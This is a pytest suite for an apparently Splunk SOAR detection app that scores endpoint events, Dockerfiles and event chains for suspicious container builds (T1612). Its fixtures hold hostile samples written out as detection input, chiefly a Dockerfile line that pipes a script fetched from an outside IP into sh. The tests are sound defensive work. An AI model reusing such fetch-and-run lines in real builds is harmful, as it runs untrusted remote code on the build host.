"""Every action, with good input and bad: a failure is told, and never silence."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from .conftest import Run
from .events import ALL, BUILD, DEPLOY, EGRESS, QUIET, Event

Stored = Callable[[bytes], str]


def lines(events: list[Event]) -> str:
    return "\n".join(map(json.dumps, events))


def counts(result: Any, *names: str) -> list[Any]:
    assert result.get_status() is True, result.get_message()
    return [result.get_summary()[name] for name in names]


def failure(result: Any) -> str:
    assert result.get_status() is False
    assert result.get_data() == []
    return str(result.get_message())


def test_connectivity(run: Run) -> None:
    assert run("test_connectivity").get_status() is True


def test_connectivity_tells_of_a_score_that_is_not_as_it_should_be(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    from splunk_soar.src import selftest

    monkeypatch.setattr(selftest, "KNOWN", ((BUILD, 7, 4),))

    assert "sentinel gives" in failure(run("test_connectivity"))


@pytest.mark.parametrize(
    ("asset", "said"),
    [
        ({"profile": "strict"}, "the asset's profile is 'strict'; it is one of hardened, sentinel"),
        ({"allow_list": "x"}, "the asset's allow-lists: the asset's allow_list"),
        ({"ready_lists": "ci-agents, nowhere"}, "nowhere: is no ready-made list"),
        ({"min_score": -1}, "min_score is -1; it is 0 or more"),
        ({"max_findings": 10_001}, "max_findings is 10001; it is 0 to 10,000"),
    ],
)
def test_a_wrong_setting_is_told_by_every_action(
    run: Run, asset: dict[str, Any], said: str
) -> None:
    for action, params in (
        ("test_connectivity", {}),
        ("score_event", {"event": BUILD}),
        ("score_events", {"events": ALL}),
    ):
        assert said in failure(run(action, asset, **params))


@pytest.mark.parametrize(
    "event",
    [
        json.dumps(BUILD),
        BUILD,
        str(BUILD),
        [BUILD],
        {"results": [BUILD]},
        json.dumps(BUILD, indent=1),
    ],
    ids=["text", "object", "python", "list", "results", "laid out"],
)
def test_score_event(run: Run, event: Any) -> None:
    result = run("score_event", event=event)
    (row,) = result.get_data()

    assert (row["score"], row["verdict"], row["kind"]) == (4, "suspicious", "process")
    assert row["signals"] == ["process.temp_source", "process.without_cache"]
    assert (row["device"], row["time"]) == ("web-prod-07", "2026-03-02T08:06:43+00:00")
    assert counts(result, "events", "findings", "max_score", "severity", "top_device") == [
        *(1, 1, 4, "medium", "web-prod-07")
    ]


def test_an_event_below_the_threshold_is_a_row_with_its_score(run: Run) -> None:
    event = {**BUILD, "InitiatingProcessFileName": "make"}
    result = run("score_event", event=event)
    (row,) = result.get_data()

    assert (row["score"], row["verdict"], row["matched"]) == (1, "none", False)
    assert "process.build_tool_lineage" in row["signals"]
    assert counts(result, "events", "findings", "verdict") == [1, 0, "none"]


@pytest.mark.parametrize(
    ("event", "said"),
    [
        ("", "event: Field required"),
        (None, "event: Field required"),
        ("nope", "event of line 1 is no JSON"),
        ("{", "event of line 1 begins a value that never ends"),
        ("{'a': open('x')}", "event of line 1 is no JSON"),
        ([BUILD, BUILD], "event holds 2 events; it is one JSON object"),
        ("7", "event is int, expected a mapping"),
        ("[" * 100_000, "is nested too deeply"),
        ({"a": 1}, "event is not recognised"),
        ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
        ({"Type": "SigninLogs"}, "event is of a kind that nothing here scores"),
    ],
)
def test_a_bad_event_is_a_failure_that_says_why(run: Run, event: Any, said: str) -> None:
    assert said in failure(run("score_event", event=event))


def test_a_kind_is_taken_or_refused(run: Run) -> None:
    (row,) = run(
        "score_event", event={"FileName": "Dockerfile", "FolderPath": "/tmp/x"}, kind="File"
    ).get_data()

    assert (row["kind"], row["score"]) == ("file", 3)
    assert "kind is 'none'; it is one of auto, process" in failure(
        run("score_event", event=BUILD, kind="none")
    )
    assert "has none of the fields of a file event" in failure(
        run("score_event", event={"a": 1}, kind="file")
    )


def test_score_process(run: Run) -> None:
    (row,) = run(
        "score_process",
        command_line='"C:\\Program Files\\docker.exe" build https://198.51.100.7/x.tar',
        host="web-01",
        user="svc",
    ).get_data()

    assert row["score"] >= 6
    assert (row["verdict"], row["device"], row["account"]) == ("malicious", "web-01", "svc")
    assert "command_line: Field required" in failure(run("score_process", host="x"))


def test_score_file(run: Run) -> None:
    (row,) = run("score_file", file_path="/dev/shm/x/Dockerfile").get_data()
    (same,) = run("score_file", file_path="/dev/shm/x", file_name="Dockerfile").get_data()

    assert row["score"] == same["score"] == 4
    assert row["detail"] == same["detail"] == "/dev/shm/x/Dockerfile"
    assert "file_path: Field required" in failure(run("score_file"))


def test_score_network(run: Run) -> None:
    (row,) = run(
        "score_network", remote_ip="203.0.113.7", remote_url="files.example.net"
    ).get_data()
    (quiet,) = run("score_network", remote_ip="203.0.113.7", remote_url="docker.io").get_data()

    assert (row["score"], row["rule"], quiet["score"]) == (2, "builder_egress", 0)
    assert "remote_port: " in failure(
        run("score_network", remote_ip="203.0.113.7", remote_port="x")
    )


@pytest.mark.parametrize(
    "events",
    [
        json.dumps(ALL),
        ALL,
        [ALL],
        {"results": ALL},
        lines(ALL),
        str(ALL),
        {"value": ALL},
        lines([{"records": ALL}]),
    ],
    ids=["text", "list", "collect2", "results", "lines", "python", "value", "records"],
)
def test_score_events_takes_every_shape_that_a_playbook_has(run: Run, events: Any) -> None:
    result = run("score_events", events=events)

    assert [row["kind"] for row in result.get_data()] == ["process", "network"]
    assert [row["source_index"] for row in result.get_data()] == [0, 1]
    assert counts(result, "events", "findings", "returned", "skipped", "chains") == [4, 2, 2, 0, 1]


def test_score_events_takes_tables_of_sentinel_and_artifacts(run: Run) -> None:
    table = {
        "tables": [
            {"columns": [{"name": key} for key in BUILD], "rows": [list(BUILD.values()), [1]]}
        ]
    }
    artifact = {
        "id": 42,
        "cef": {
            "deviceHostname": "web-prod-07",
            "process": BUILD["ProcessCommandLine"],
            "parent_process_name": "bash",
            "startTime": 1772438803000,
        },
    }
    result = run("score_events", events=[table, artifact])

    assert counts(result, "events", "findings", "skipped") == [3, 2, 1]
    assert [row["artifact_id"] for row in result.get_data()] == [0, 42]
    assert result.get_data()[1]["time"] == "2026-03-02T08:06:43+00:00"


def test_findings_are_capped_the_highest_are_kept_and_all_are_counted(run: Run) -> None:
    hosts = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(20)]
    builds = [{**BUILD, "DeviceName": f"web-{at}"} for at in range(5)]
    events = [*hosts, *builds, *hosts]
    result = run("score_events", events=events, max_findings=7, window_minutes=0)

    assert [row["score"] for row in result.get_data()] == [4] * 5 + [2] * 2
    assert [row["source_index"] for row in result.get_data()] == [20, 21, 22, 23, 24, 0, 1]
    assert [row["count"] for row in result.get_data()] == [1] * 5 + [2] * 2
    assert counts(result, "findings", "returned", "chains") == [45, 7, 0]
    assert counts(run("score_events", events=events, min_score=3), "findings") == [5]
    assert counts(run("score_events", events=events, min_score=0), "findings") == [45]
    assert counts(run("score_events", events=events, max_findings=0), "returned") == [0]


def test_what_cannot_be_read_or_scored_is_counted(run: Run) -> None:
    text = lines([BUILD, {"a": 1}]) + "\nnot json\n7\n" + json.dumps({**BUILD, "FileName": 7})
    result = run("score_events", events=text)

    assert counts(result, "events", "findings", "skipped") == [5, 1, 4]
    assert "4 of 5 events not scored; the first: event is not recognised" in result.get_message()


CSV = b"ImageFileName,CommandLine\ndocker,docker build /tmp/x\n7\n"  # of another product
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xb8\x1a" + bytes(range(128, 256))
UNKNOWN = {"Type": "SigninLogs", "FileName": "docker", "ProcessCommandLine": "docker build /tmp/x"}
FALCON = {"ImageFileName": "docker", "CommandLine": "docker build /tmp/x"}


@pytest.mark.parametrize("action", ["score_events", "correlate"])
@pytest.mark.parametrize(
    ("events", "said"),
    [
        (7, "none of 1 events can be scored; the first: event is int"),
        ([None, None], "none of 2 events can be scored; the first: event is NoneType"),
        (["docker build"], "none of 1 events can be scored; the first: event is str"),
        (CSV.decode(), "none of 2 events can be scored; the first: event is not recognised"),
        ([FALCON, 7], "none of 2 events can be scored; the first: event is not recognised"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a kind that nothing"),
        ({**UNKNOWN, "Type": "", "ActionType": "LogonFailed"}, "is of a kind that nothing"),
        ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
        ({"columns": [{}], "rows": [[1]]}, "a table has a column without a name"),
    ],
    ids=["7", "nulls", "texts", "csv", "falcon", "table", "action", "wrong type", "bad table"],
)
def test_where_nothing_can_be_scored_nothing_is_said_to_be_none(
    run: Run, action: str, events: Any, said: str
) -> None:
    assert said in failure(run(action, events=events))


@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "gzip"])
@pytest.mark.parametrize(
    "data",
    [CSV, ZIP, b"\x93\xf1\x00\n" * 99, b'"docker build"\n'],
    ids=["csv", "zip", "any", "text"],
)
def test_a_file_of_something_else_is_a_failure(
    run: Run, stored: Stored, data: bytes, pack: Callable[[bytes], bytes]
) -> None:
    for action in ("scan_vault_file", "correlate"):
        said = failure(run(action, vault_id=stored(pack(data))))
        assert "events can be scored; the first: " in said or "archive" in said
        assert "docker build" not in said


@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "gzip"])
def test_a_portals_csv_is_scored(run: Run, stored: Stored, pack: Callable[[bytes], bytes]) -> None:
    data = b"TimeGenerated [UTC],FileName,ProcessCommandLine\n,docker,docker build /tmp/x\n"
    result = run("scan_vault_file", vault_id=stored(pack(data)))

    assert counts(result, "events", "findings", "verdict") == [1, 1, "suspicious"]


def test_where_there_is_nothing_the_verdict_is_unknown(run: Run, stored: Stored) -> None:
    assert counts(run("score_events", events=[]), "events", "verdict") == [0, "unknown"]
    assert counts(run("scan_vault_file", vault_id=stored(b"\n")), "events", "verdict") == [
        0,
        "unknown",
    ]


def test_rows_of_other_tables_are_counted_as_not_scored(run: Run) -> None:
    result = run("score_events", events=[UNKNOWN, BUILD, QUIET])

    assert counts(result, "events", "findings", "skipped", "verdict") == [3, 1, 1, "suspicious"]


@pytest.mark.parametrize("key", ["data", "results", "records", "value", "cef", "tables"])
def test_a_key_of_wrappers_beside_columns_hides_no_event(
    run: Run, stored: Stored, key: str
) -> None:
    artifact = {"process": BUILD["ProcessCommandLine"], "parent_process_name": "bash"}
    for event in (
        {**BUILD, key: []},
        {**artifact, key: []},
        {**artifact, "properties": [], key: []},
    ):
        for result in (
            run("score_event", event=event),
            run("score_events", events=[event]),
            run("scan_vault_file", vault_id=stored(json.dumps(event).encode())),
        ):
            assert counts(result, "events", "findings", "max_score") == [1, 1, 4]


def nested(event: Event, depth: int = 2_500) -> str:
    return f'{json.dumps(event)[:-1]}, "AdditionalFields": {"[" * depth}{"]" * depth}}}'


@pytest.mark.parametrize("depth", [300, 2_500])
def test_an_event_that_is_nested_deeply_costs_no_other(
    run: Run, stored: Stored, depth: int
) -> None:
    text = f"[{json.dumps(BUILD)}, {nested(BUILD, depth)}, {json.dumps(EGRESS)}]"
    for result in (
        run("score_events", events=text),
        run("score_events", events=json.loads(text)),
        run("scan_vault_file", vault_id=stored(text.encode())),
    ):
        assert counts(result, "events", "findings", "skipped") == [3, 3, 0]


@pytest.mark.parametrize("read", [str, str.encode], ids=["text", "file"])
def test_an_event_that_is_nested_too_deeply_is_counted(
    run: Run, stored: Stored, read: Callable[[str], str | bytes]
) -> None:
    given = read(f"[{json.dumps(BUILD)}, {nested(BUILD, 90_000)}, {json.dumps(EGRESS)}]")
    result = (
        run("scan_vault_file", vault_id=stored(given))
        if isinstance(given, bytes)
        else run("score_events", events=given)
    )

    assert counts(result, "events", "findings", "skipped") == [3, 2, 1]
    assert "is nested too deeply" in result.get_message()


HIGH: Event = {
    **BUILD,
    "DeviceName": "db-01",
    "ProcessCommandLine": "docker build https://198.51.100.7/x.tar",
}


def test_the_top_device_is_that_of_the_highest_score_then_of_most_findings(run: Run) -> None:
    noisy = [{**EGRESS, "DeviceName": "noisy"}] * 5
    for window in (0, 60):
        (top, score) = counts(
            run("score_events", events=[*noisy, HIGH], window_minutes=window),
            *("top_device", "max_score"),
        )
        assert (top, score >= 6) == ("db-01", True)
    two = [{**EGRESS, "DeviceName": "quiet"}, *noisy]
    assert counts(run("score_events", events=two, window_minutes=0), "top_device") == ["noisy"]


def test_the_top_device_is_that_of_the_highest_chain(run: Run) -> None:
    chain = [{**each, "DeviceName": "db-01"} for each in (BUILD, EGRESS, DEPLOY)]
    events = [{**BUILD, "DeviceName": "noisy"}] * 5 + chain
    (chains, top, score) = counts(
        run("score_events", events=events), "chains", "top_device", "max_score"
    )

    assert (chains, top) == (1, "db-01")
    assert score > 4


def test_fifty_places_hold_fifty_different_findings(run: Run) -> None:
    again = [
        {**BUILD, "Timestamp": f"2026-03-02T{at // 60:02}:{at % 60:02}:00Z"} for at in range(60)
    ]
    others = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(60)]
    for events in ([*again, *others], [*others, *again], [*again, *others, *again]):
        result = run("score_events", events=events, max_findings=50, window_minutes=0)

        assert counts(result, "findings", "returned") == [len(events), 50]
        rows = result.get_data()
        assert len({row["device"] for row in rows}) == len({row["id"] for row in rows}) == 50
        assert (rows[0]["device"], rows[0]["count"]) == ("web-prod-07", len(events) - 60)


def test_a_run_that_takes_too_long_gives_what_it_has_and_says_so(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    from t1612core.summary import survey

    ticks = iter(range(10**9))
    made = survey._Pass
    monkeypatch.setattr(
        survey, "_Pass", lambda *given: made(*given[:-1], lambda: float(next(ticks)))
    )
    result = run("score_events", {"max_seconds": 100}, events=[QUIET, BUILD] * 200)
    assert counts(result, "complete", "verdict") == [False, "suspicious"]
    assert "time was over after 60 events" in result.get_message()
    assert "time was over after 60 events" in result.get_summary()["warning"]
    result = run("score_events", {"max_seconds": 100}, events=[QUIET] * 400)
    assert counts(result, "complete", "verdict") == [False, "unknown"]
    assert "max_seconds is -1" in failure(run("score_events", {"max_seconds": -1}, events=ALL))


def test_a_lone_alert_is_no_chain(run: Run, app: Any) -> None:
    for event in (BUILD, HIGH):
        result = run("score_events", events=[event, QUIET])
        assert counts(result, "findings", "chains", "top_device") == [1, 0, event["DeviceName"]]
        result = run("correlate", events=[event, QUIET])
        assert counts(result, "chains", "returned") == [0, 0]
        assert result.get_data() == []


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({}, "events: Field required"),
        ({"events": ""}, "events: Field required"),
        ({"events": ALL, "min_score": "x"}, "min_score: "),
        ({"events": ALL, "max_findings": 2.5}, "max_findings: "),
        ({"events": ALL, "window_minutes": -1}, "window_minutes is -1; it is 0 to 10,080"),
        ({"events": "docker build ."}, "is no JSON"),
    ],
)
def test_bad_parameters_are_a_failure_that_says_which(
    run: Run, params: dict[str, Any], said: str
) -> None:
    assert said in failure(run("score_events", **params))


@pytest.mark.parametrize("value", ["", None, "2", 2.0])
def test_an_empty_box_and_a_number_in_another_spelling_are_fine(run: Run, value: Any) -> None:
    assert counts(run("score_events", events=[BUILD], min_score=value), "findings") == [1]


@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "gzip"])
@pytest.mark.parametrize("text", [lines(ALL) + "\nnot json\n", json.dumps([*ALL, 7])])
def test_scan_vault_file(
    run: Run, stored: Stored, text: str, pack: Callable[[bytes], bytes]
) -> None:
    result = run("scan_vault_file", vault_id=stored(pack(text.encode())))

    assert counts(result, "events", "findings", "skipped", "chains") == [5, 2, 1, 1]


def test_a_vault_file_that_is_not_there_or_breaks_is_a_failure(run: Run, stored: Stored) -> None:
    assert "there is no file '00" in failure(run("scan_vault_file", vault_id="0" * 40))
    cut = gzip.compress(lines(ALL).encode())[:-20]
    assert "cannot be read to its end" in failure(run("scan_vault_file", vault_id=stored(cut)))


def test_a_report_has_all_findings_and_chains(
    run: Run, app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(app.soar_client.vault), "get_vault_tmp_dir", lambda _: str(tmp_path))
    result = run("score_events", events=ALL * 3, max_findings=1, write_report=True)
    (id,) = counts(result, "report_vault_id")
    (file,) = app.soar_client.vault.get_attachment(vault_id=id)
    with file.open() as stream:
        rows = [json.loads(line) for line in stream]

    assert [row.get("branch") or row.get("verdict") for row in rows] == [
        *(["image_build", "builder_egress"] * 3),
        "build-then-deploy",
    ]


def test_a_report_of_a_run_that_fails_is_taken_away(
    run: Run, app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(app.soar_client.vault), "get_vault_tmp_dir", lambda _: str(tmp_path))
    failure(run("score_events", events="x", write_report=True))

    assert list(tmp_path.iterdir()) == []


def test_correlate(run: Run, stored: Stored) -> None:
    for params in ({"events": ALL}, {"vault_id": stored(lines(ALL).encode())}):
        result = run("correlate", **params)
        (chain,) = result.get_data()

        assert (chain["verdict"], chain["device"]) == ("build-then-deploy", "web-prod-07")
        assert chain["stages"][-1] == "deploy"
        assert "T1612" in chain["techniques"]
        assert counts(result, "events", "chains", "returned") == [4, 1, 1]
    assert counts(run("correlate", events=[DEPLOY]), "chains", "verdict") == [0, "none"]


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({}, "give either events or a vault_id"),
        ({"events": ALL, "vault_id": "x"}, "give either events or a vault_id"),
        ({"events": ALL, "window_minutes": 0}, "window_minutes is 0; it is 1 or more"),
        ({"events": ALL, "max_chains": -1}, "max_chains is -1; it is 0 to 10,000"),
        ({"events": "x"}, "is no JSON"),
    ],
)
def test_correlate_says_what_is_wrong(run: Run, params: dict[str, Any], said: str) -> None:
    assert said in failure(run("correlate", **params))


def pages(monkeypatch: pytest.MonkeyPatch, app: Any, artifacts: list[Any]) -> list[dict[str, Any]]:
    """Answer as the platform does, and give what it was asked."""
    asked: list[dict[str, Any]] = []

    def get(_: Any, endpoint: str, *, params: dict[str, Any]) -> httpx.Response:
        asked.append({"endpoint": endpoint, **params})
        size, at = params["page_size"], params["page"] * params["page_size"]
        answer = {
            "count": len(artifacts),
            "num_pages": -(-len(artifacts) // size),
            "data": artifacts[at : at + size],
        }
        return httpx.Response(200, json=answer)

    monkeypatch.setattr(type(app.soar_client), "get", get)
    return asked


def test_score_container(run: Run, app: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    artifacts: list[Any] = [{"id": 10 + at, "cef": event} for at, event in enumerate(ALL)]
    artifacts += [{"id": 99}, None]
    asked = pages(monkeypatch, app, artifacts)
    result = run("score_container", container_id=7, page_size=2)

    assert counts(result, "events", "findings", "skipped", "chains") == [6, 2, 2, 1]
    assert [row["artifact_id"] for row in result.get_data()] == [10, 11]
    assert [(each["endpoint"], each["_filter_container_id"], each["page"]) for each in asked] == [
        *(("rest/artifact", 7, 0), ("rest/artifact", 7, 1), ("rest/artifact", 7, 2))
    ]
    run("score_container")
    assert asked[-1]["_filter_container_id"] == 1  # the one that the action runs in


def test_a_container_that_cannot_be_read_is_a_failure(
    run: Run, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise httpx.ConnectError("no route")

    monkeypatch.setattr(type(app.soar_client), "get", refuse)

    assert "the artifacts of container 7: no route" in failure(
        run("score_container", container_id=7)
    )
    assert "page_size is 0" in failure(run("score_container", container_id=7, page_size=0))


def test_the_asset_says_by_what_is_scored(run: Run) -> None:
    sentinel = run("score_event", {"profile": "sentinel"}, event=BUILD)
    assert (sentinel.get_data()[0]["score"], sentinel.get_summary()["verdict"]) == (6, "malicious")
    strict = run("score_event", {"malicious_score": 4}, event=BUILD)
    assert strict.get_summary()["verdict"] == "malicious"
    assert counts(run("score_events", {"min_score": 5}, events=ALL), "findings") == [0]
    assert counts(run("score_events", {"max_findings": 1}, events=ALL), "returned") == [1]


ALLOWED = """
version = 1
[[entry]]
id = "web-builds"
reason = "Builds of the web team, whose directory is below /tmp."
owner = "web-team"
created = 2026-01-01
expires = 2099-01-01
kinds = ["process"]
effect = { action = "suppress" }
match = [
    { field = "host", op = "equals", value = "web-prod-07" },
    { field = "account", op = "equals", value = "root" },
]
"""


def test_what_an_allow_list_suppresses_is_counted_and_not_shown(run: Run) -> None:
    result = run("score_events", {"allow_list": ALLOWED}, events=[BUILD, EGRESS], window_minutes=0)

    assert counts(result, "events", "findings", "suppressed") == [2, 1, 1]
    (row,) = run("score_event", {"allow_list": ALLOWED}, event=BUILD).get_data()
    assert (row["score"], row["matched"], row["verdict"]) == (0, False, "none")


def test_an_old_event_revives_no_entry_that_has_ended(run: Run) -> None:
    ended = ALLOWED.replace("2099-01-01", "2026-03-03")  # and the event is of the day before
    result = run("score_events", {"allow_list": ended}, events=[BUILD], window_minutes=0)

    assert counts(result, "findings", "suppressed") == [1, 0]


def test_several_files_are_one_run(run: Run, stored: Stored) -> None:
    ids = [stored(lines(events).encode()) for events in ([BUILD], [EGRESS, {"a": 1}], [DEPLOY])]
    for action in ("scan_vault_file", "correlate"):
        result = run(action, vault_id=" , ".join(ids))
        assert counts(result, "events", "skipped", "chains") == [4, 1, 1]
    assert "there is no file 'x'" in failure(run("scan_vault_file", vault_id=f"{ids[0]}, x"))
    assert "vault_id is empty" in failure(run("scan_vault_file", vault_id=" , "))


DOCKERFILE = "FROM alpine\nRUN curl -s http://203.0.113.7/i.sh | sh\n"


def test_score_dockerfile(run: Run, stored: Stored) -> None:
    for params in ({"content": DOCKERFILE}, {"vault_id": stored(DOCKERFILE.encode())}):
        result = run("score_dockerfile", **params)
        assert counts(result, "matched", "verdict") == [True, "suspicious"]
        assert {row["signal"] for row in result.get_data()} >= {"dockerfile.address_source"}
        assert result.get_data()[0]["line"] == 2
    quiet = run("score_dockerfile", content="FROM alpine\nCOPY . .\n")
    assert counts(quiet, "score", "matched", "verdict") == [0, False, "none"]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (gzip.compress(DOCKERFILE.encode()), "it is packed with gzip"),
        (b"FROM a\0", "it is no text"),
        (b"FROM \xff\xfe", "it is no text in UTF-8"),
        (b" \n", "the Dockerfile is empty"),
        (b"FROM a\n" * 200_000, "the Dockerfile is longer than 1,048,576 bytes"),
    ],
    ids=["gzip", "binary", "latin", "empty", "long"],
)
def test_what_is_no_dockerfile_is_a_failure(
    run: Run, stored: Stored, data: bytes, said: str
) -> None:
    assert said in failure(run("score_dockerfile", vault_id=stored(data)))


def test_score_dockerfile_says_what_is_wrong(run: Run, stored: Stored) -> None:
    for params in ({}, {"content": "FROM a", "vault_id": "x"}):
        assert "give either content or a vault_id" in failure(run("score_dockerfile", **params))
    two = f"{stored(b'FROM a')},{stored(b'FROM b')}"
    assert "a Dockerfile is one file" in failure(run("score_dockerfile", vault_id=two))


def test_a_schema_is_taken_or_refused(run: Run) -> None:
    event = {"process": BUILD["ProcessCommandLine"], "parent_process_name": "bash"}
    assert counts(run("score_events", {"schema_name": "splunk"}, events=[event]), "findings") == [1]
    assert "is not recognised" in failure(
        run("score_events", {"schema_name": "mde"}, events=[event])
    )
    assert "the asset's schema_name is 'x'; it is one of auto, " in failure(
        run("score_events", {"schema_name": "x"}, events=[event])
    )
